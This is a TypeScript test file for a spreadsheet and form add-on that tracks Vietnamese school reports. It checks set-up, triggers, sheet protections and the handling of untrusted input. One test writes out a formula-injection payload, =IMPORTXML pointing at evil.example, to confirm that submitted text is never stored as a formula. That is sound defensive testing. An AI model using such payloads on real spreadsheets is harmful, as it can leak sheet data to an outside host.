import type { LocalHost } from '../../src/local/engine/local-host';
import { openHost } from '../../src/local/host/open-host';
import { createHocBaSoForm } from '../../src/local/world/hoc-ba-so-form';
import { newWorld } from '../../src/local/world/new-world';
import type { Sheet } from '../../src/local/world/world-state';
import { NOW } from '../builders/host';
import { pushed } from '../builders/small-round';

const OWNER = 'so.gddt@haiphong.edu.vn';
const CHOICES = { answerFrom: 'now', mode: 'live', addresses: 'verified', takeOver: false };

const OUR_TABS = [
  'Tổng hợp',
  'Tình trạng các trường',
  'Trường chậm báo cáo',
  'Kiểm tra',
  'Sổ thư',
  'Quyết định',
  'Danh sách trường',
  'Cấu hình',
  'Nhật ký',
];

/** The letter's Form linked to a file in which set-up has run. */
function setUpHost(): LocalHost {
  const world = newWorld({ now: NOW, seed: 1 });
  createHocBaSoForm(world);
  const host = openHost({ ...pushed(), now: NOW, world });
  host.call('setUp', [CHOICES], { as: OWNER });
  return host;
}

function sheetOf(host: LocalHost, name: string): Sheet {
  const found = host.world.workbook.sheets.find((sheet) => sheet.name === name);
  if (!found) throw new Error(`no tab ${name}`);
  return found;
}

const handlers = (host: LocalHost) => host.world.triggers.map(({ handler }) => handler).sort();

/** What a list of answers says when every question gets the same text. */
function answersOf(host: LocalHost, text: string): Record<string, string> {
  const [form] = Object.values(host.world.forms);
  const titles = (form?.items ?? []).filter(({ type }) => type !== 'FILE_UPLOAD');
  return Object.fromEntries(titles.map(({ title }) => [title, text]));
}

describe('set-up', () => {
  test('makes every tab behind those that stand', () => {
    const names = setUpHost().world.workbook.sheets.map(({ name }) => name);
    expect(names.slice(-OUR_TABS.length)).toEqual(OUR_TABS);
  });

  test('installs six triggers, one for each thing that can wake the add-on', () => {
    expect(handlers(setUpHost())).toEqual([
      'onCellEdit_',
      'onDaily_',
      'onFormResponse_',
      'onResponseRow_',
      'onSheetChange_',
      'onTick_',
    ]);
  });

  test('run again changes no tab but the log, and makes no chart, protection or trigger twice', () => {
    const host = setUpHost();
    const picture = () =>
      host.world.workbook.sheets
        .filter(({ name }) => name !== 'Nhật ký')
        .map((sheet) => JSON.stringify(sheet));
    const before = picture();
    const triggers = handlers(host);
    host.call('setUp', [{ ...CHOICES, answerFrom: null }], { as: OWNER });
    expect(picture().map((sheet, index) => sheet === before[index])).toEqual(
      before.map(() => true),
    );
    expect(handlers(host)).toEqual(triggers);
  });

  test('keeps what staff wrote into a tab of ours before it ran', () => {
    const world = newWorld({ now: NOW, seed: 1 });
    createHocBaSoForm(world);
    const host = openHost({ ...pushed(), now: NOW, world });
    host.insertSheet('Danh sách trường');
    host.paste('Danh sách trường', 1, 1, [
      ['Mã trường', 'Tên trường', 'Từ ngày'],
      ['31303501', 'THCS Trần Phú', '31/03/2026'],
    ]);
    host.call('setUp', [CHOICES], { as: OWNER });
    expect(host.displayed('Danh sách trường')[1]?.slice(0, 3)).toEqual([
      '31303501',
      'THCS Trần Phú',
      '31/03/2026',
    ]);
  });

  test('protects with a warning what the machine writes, and nothing that staff write', () => {
    const host = setUpHost();
    const warned = host.world.workbook.sheets
      .filter(({ protections }) => protections.some(({ warningOnly }) => warningOnly))
      .map(({ name }) => name);
    expect(warned).toEqual([
      'Tổng hợp',
      'Tình trạng các trường',
      'Trường chậm báo cáo',
      'Kiểm tra',
      'Sổ thư',
      'Nhật ký',
    ]);
  });

  test('draws three charts on the summary', () => {
    const { charts } = sheetOf(setUpHost(), 'Tổng hợp');
    expect(charts.map(({ type }) => type)).toEqual(['PIE', 'LINE', 'BAR']);
  });

  test('hides the column that only the machine reads', () => {
    const { hiddenColumns, maxColumns } = sheetOf(setUpHost(), 'Kiểm tra');
    expect(hiddenColumns).toEqual([maxColumns]);
  });

  test('makes the roster long enough for 1,700 schools before its codes are pasted', () => {
    const host = setUpHost();
    const codes = Array.from({ length: 1_700 }, (_, index) => [`0${30_000_000 + index}`]);
    host.paste('Danh sách trường', 2, 1, codes);
    const shown = host.displayed('Danh sách trường').slice(1, 1_701);
    expect(shown.map(([code]) => [code])).toEqual(codes);
  });

  test('refuses another account until that one says that it takes over', () => {
    const host = setUpHost();
    const colleague = 'can-bo-moi@haiphong.edu.vn';
    host.world.accounts.push({ email: colleague, authorized: true, editor: true });
    expect(() => host.call('setUp', [CHOICES], { as: colleague })).toThrow(OWNER);
  });

  test('takes nothing on trust from a page', () => {
    const host = setUpHost();
    for (const given of [null, {}, { ...CHOICES, mode: 'send' }, 'live']) {
      expect(() => host.call('setUp', [given], { as: OWNER })).toThrow('không hợp lệ');
    }
  });
});

describe('what schools type', () => {
  test('is never written as a formula', () => {
    const host = setUpHost();
    host.paste('Danh sách trường', 2, 1, [['31303501', '', 'THCS Trần Phú', 'THCS']]);
    const hostile = '=IMPORTXML("http://evil.example","//a")';
    for (const text of [hostile, '+84912345678', '@SUM(A1)', '-1']) {
      host.submit(answersOf(host, text), { as: 'thcs-tranphu@haiphong.edu.vn' });
    }
    // At most three passes start in a minute; the clock's own takes what is left.
    host.advanceTo(NOW + 10 * 60_000);
    const formulas = OUR_TABS.flatMap((name) =>
      sheetOf(host, name).rows.flatMap((row) =>
        row.flatMap((cell) => (cell?.formula === undefined ? [] : [cell.formula])),
      ),
    );
    expect(host.displayed('Kiểm tra').length).toBe(5);
    expect(formulas).toEqual([]);
    expect(host.executions.filter(({ outcome }) => outcome !== 'completed')).toEqual([]);
  });
});

describe('triggers', () => {
  test('of other scripts are left alone when ours go', () => {
    const host = setUpHost();
    const [first] = host.world.triggers;
    if (!first) throw new Error('no trigger');
    host.world.triggers.push({ ...first, id: 'of-staff', handler: 'staffMacro' });
    host.run('detach', [], { as: OWNER, kind: 'menu', answers: ['YES'] });
    expect(handlers(host)).toEqual(['staffMacro']);
  });

  test('stay when the person says no', () => {
    const host = setUpHost();
    host.run('detach', [], { as: OWNER, kind: 'menu', answers: ['NO'] });
    expect(host.world.triggers.length).toBe(6);
  });
});
